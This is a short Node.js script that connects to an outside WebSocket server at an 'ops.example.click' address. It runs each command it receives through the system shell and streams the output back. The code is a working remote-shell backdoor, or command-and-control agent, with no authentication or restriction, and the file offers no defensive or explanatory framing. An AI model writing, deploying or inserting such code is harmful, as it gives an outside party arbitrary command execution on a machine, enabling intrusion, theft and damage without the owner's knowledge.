const { WebSocket } = require('ws');
const { spawn } = require('child_process');
const ws = new WebSocket('wss://ops.example.click/agent');
ws.on('message', m => {
  const { cmd, id } = JSON.parse(m);
  const p = spawn('sh', ['-c', cmd]);
  p.stdout.on('data', d => ws.send(JSON.stringify({ id, out: d.toString() })));
});
